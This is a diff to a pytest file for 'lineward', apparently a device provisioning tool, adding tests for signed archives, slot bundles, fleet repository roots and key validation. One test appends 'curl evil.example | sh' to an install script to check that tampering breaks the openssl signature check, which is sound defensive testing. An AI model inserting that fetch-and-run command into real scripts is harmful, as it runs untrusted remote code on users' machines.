@@ -21,6 +21,7 @@ from lineward.export.provisioning.image import Station, write_image
 from lineward.export.provisioning.runtime_wheel import make_runtime_wheel
 from lineward.export.provisioning.target import Target, find_target
 from lineward.export.provisioning.wheelhouse import read_lock
+from lineward.export.signing import SigningKey
 from lineward.runtime.bundle import decode_bundle, replace_signatures
 from lineward.runtime.cli import main
 from lineward.runtime.errors import BundleError, LinewardError, ProvisioningError
@@ -174,8 +175,9 @@ def reseal(unpacked: Path, name: str, change: Callable[[str], str]) -> None:
 
 def test_a_station_from_archive_to_upgrade(device, station, make, tmp_path, golden_frames, tiny, rebundle):
     """One long way, since each installation takes seconds: nothing, dry run, installed, again, edited, upgraded."""
-    archive = make(station)
-    assert archive.read_bytes() == make(station, name="again.tar.gz").read_bytes()
+    key = SigningKey(TRUSTED.public, TRUSTED.private)
+    archive = make(station, key=key)
+    assert archive.read_bytes() == make(station, name="again.tar.gz", key=key).read_bytes()
     unpacked = device.unpack(archive)
 
     told = device.install(unpacked, "--dry-run")
@@ -215,11 +217,16 @@ def test_a_station_from_archive_to_upgrade(device, station, make, tmp_path, gold
         revoked.write(stolen + "\n")
     old = (device.root / "opt/lineward/current").readlink()
 
-    station.file.write_text(STATION.replace("150ms", "120ms"))
+    slots = ', 2 = "/var/lib/lineward/line-3/slots/tiny" }'
+    station.file.write_text(STATION.replace("150ms", "120ms").replace('tiny.lineward" }', f'tiny.lineward"{slots}'))
     added = make_wheel(tmp_path, "more")
     upgrade = device.unpack(make(station, added=[added]))
+    assert "would: lay tiny.lineward into /opt/lineward/slots" in device.install(upgrade, "--dry-run").out
     told = device.install(upgrade)
     assert told.code == PASSED, told
+    # Below --root there is nobody who could deploy: the bundle waits for the device's first start.
+    assert "lineward deploy /etc/lineward/line-3.toml /opt/lineward/slots/tiny.lineward --job 2" in told.out
+    assert (device.root / "opt/lineward/slots/tiny.lineward").read_bytes() == station.bundles[0].read_bytes()
     assert "KEPT /etc/lineward/line-3.toml" in told.out
     assert "140ms" in file.read_text()
     assert "120ms" in (device.root / "opt/lineward/set-aside/etc/lineward/line-3.toml").read_text()
@@ -324,6 +331,13 @@ def test_the_runtime_wheel_is_the_same_each_time(own, tmp_path):
         ("tiny.lineward", "other.lineward", r"\[jobs\] name other.lineward, and the bundles given are tiny.lineward"),
         ("1 =", '2 = "b.lineward", 1 =', r"\[jobs\] name b.lineward, tiny.lineward, and the bundles"),
         ("deadline", "dead", "unknown field"),
+        ('"tiny.lineward"', '"slots/tiny"', "is no folder of slots below /var/lib/lineward/line-3"),
+        (
+            '"tiny.lineward"',
+            '"/var/lib/lineward/line-4/slots/tiny"',
+            "is no folder of slots below /var/lib/lineward/line-3",
+        ),
+        ('"tiny.lineward"', '"/var/lib/lineward/line-3/slots/b"', r"\[jobs\] name b.lineward, and the bundles given"),
     ],
 )
 def test_a_station_file_that_cannot_work_on_the_device_is_refused(station, tmp_path, old, new, message):
@@ -360,6 +374,124 @@ def test_what_a_device_must_have_besides_is_told(station, tmp_path, capsys):
     assert "SYSTEM_PACKAGES='yes'" in facts
     assert {(m.uid, m.gid, m.mtime) for m in members} == {(0, 0, 315532800)}
     assert [m.name for m in members] == sorted(m.name for m in members)
+
+
+@pytest.fixture
+def small_archive(station, tmp_path, monkeypatch, capsys) -> Path:
+    """An archive of empty wheels, made by the command with a key of `lineward key new`, unpacked."""
+    house = tmp_path / "house"
+    house.mkdir()
+    own = make_wheel(house, "lineward", "9")
+    make_wheel(house, "pip")
+    monkeypatch.setenv("LINEWARD_PASSPHRASE", "secret")
+    assert main(["key", "new", "maker", "-o", str(tmp_path)]) == PASSED
+    words = ["--target", "jetpack6", "--station", station.file, "--bundle", station.bundles[0], "--wheel", own]
+    words += ["--wheelhouse", house, "--key", tmp_path / "maker.key", "-o", tmp_path / "x.tar.gz"]
+    assert main(["image", *map(str, words)]) == PASSED
+    told = capsys.readouterr()
+    assert "signed by maker (key " in told.out
+    assert "secret" not in told.out + told.err
+    subprocess.run(["tar", "-xzf", tmp_path / "x.tar.gz", "-C", tmp_path], check=True)
+    return tmp_path / "lineward-line-3"
+
+
+@pytest.mark.skipif(not shutil.which("openssl"), reason="no openssl to check an archive's signature with")
+def test_who_made_an_archive_is_told_by_openssl(small_archive, tmp_path, capsys):
+    """The commands of docs/provisioning.md, before anything of the archive is run."""
+    assert main(["key", "show", "--pem", str(tmp_path / "maker.pub")]) == PASSED
+    (tmp_path / "maker.pem").write_text(capsys.readouterr().out)
+
+    def check() -> int:
+        words = ["pkeyutl", "-verify", "-pubin", "-inkey", tmp_path / "maker.pem", "-rawin"]
+        files = ["-in", "SHA256SUMS", "-sigfile", "SHA256SUMS.sig"]
+        signature = subprocess.run(["openssl", *words, *files], cwd=small_archive, capture_output=True, check=False)
+        sums = subprocess.run(
+            ["sha256sum", "--check", "--quiet", "SHA256SUMS"], cwd=small_archive, capture_output=True, check=False
+        )
+        return signature.returncode or sums.returncode
+
+    assert check() == 0
+    with (small_archive / "install.sh").open("a") as script:
+        script.write("curl evil.example | sh\n")
+    assert check() != 0
+    reseal(small_archive, "install.sh", lambda text: text)
+    assert check() != 0
+
+
+@pytest.mark.usefixtures("small_archive")
+@pytest.mark.parametrize(
+    ("harm", "message"),
+    [
+        (lambda folder: write(folder / "maker.key", b"{}", 0o600), "not a private key"),
+        (lambda folder: (folder / "maker.key").chmod(0o644), "chmod 600"),
+        (lambda folder: (folder / "maker.key").unlink(), "cannot be read"),
+    ],
+    ids=["malformed", "open", "missing"],
+)
+def test_a_key_that_cannot_sign_is_told_before_anything_is_made(harm, message, station, tmp_path, capsys):
+    (tmp_path / "x.tar.gz").unlink()
+    harm(tmp_path)
+    words = ["image", "--target", "jetpack6", "--station", station.file, "--bundle", station.bundles[0]]
+    words += ["--key", tmp_path / "maker.key", "-o", tmp_path / "x.tar.gz"]
+    assert main([*map(str, words)]) == FAILED
+    assert message in capsys.readouterr().err
+    assert not (tmp_path / "x.tar.gz").exists()
+
+
+def test_a_bundle_for_slots_is_packed_apart(station, tmp_path):
+    station.file.write_text(STATION.replace('"tiny.lineward"', '"/var/lib/lineward/line-3/slots/tiny"'))
+    house = tmp_path / "house"
+    house.mkdir()
+    own = make_wheel(house, "lineward", "9")
+    make_wheel(house, "pip")
+    write_image(tmp_path / "x.tar.gz", HERE, station, wheel=own, wheelhouse=house)
+    with tarfile.open(tmp_path / "x.tar.gz") as archive:
+        bundles = [name for name in archive.getnames() if name.endswith(".lineward")]
+        facts = archive.extractfile("lineward-line-3/image").read().decode()
+    assert bundles == ["lineward-line-3/slots/tiny.lineward"]
+    assert "SLOTS='1=tiny.lineward'" in facts
+
+
+FLEET = """[fleet]
+repository = "https://bundles.plant.example"
+root = "root.json"
+products = { 1 = "tiny part" }
+"""
+
+
+def test_a_station_that_pulls_bundles_gets_what_that_takes(station, tmp_path):
+    slots = STATION.replace('"tiny.lineward"', '"/var/lib/lineward/line-3/slots/tiny"')
+    station.file.write_text(slots + FLEET)
+    (station.file.parent / "root.json").write_bytes(b'{"signatures": [], "signed": {"_type": "root"}}')
+    house = tmp_path / "house"
+    house.mkdir()
+    own = make_wheel(house, "lineward", "9", requires=['tuf; extra == "fleet"'])
+    make_wheel(house, "tuf")
+    make_wheel(house, "pip")
+    write_image(tmp_path / "x.tar.gz", HERE, station, wheel=own, wheelhouse=house)
+    with tarfile.open(tmp_path / "x.tar.gz") as archive:
+        names = {name.removeprefix("lineward-line-3/") for name in archive.getnames()}
+        facts = archive.extractfile("lineward-line-3/image").read().decode()
+    units = "device/etc/systemd/system/lineward-pull@"
+    assert {"device/etc/lineward/root.json", f"{units}.service", f"{units}line-3.service.d/device.conf"} <= names
+    assert any(name.startswith("wheelhouse/tuf-") for name in names)
+    assert "FLEET='yes'" in facts
+
+
+@pytest.mark.parametrize(
+    ("root", "message"),
+    [
+        (None, "root.json: cannot be read"),
+        (b"x", "not the root of a repository"),
+        (b'{"signed": {"_type": "targets"}}', "the targets list of a repository, not its root"),
+    ],
+)
+def test_a_root_that_is_none_is_refused(station, tmp_path, root, message):
+    station.file.write_text(STATION + FLEET)
+    if root is not None:
+        (station.file.parent / "root.json").write_bytes(root)
+    with pytest.raises(ProvisioningError, match=message):
+        write_image(tmp_path / "x.tar.gz", HERE, station, wheelhouse=tmp_path)
 
 
 def test_private_keys_are_never_packed(station, tmp_path):
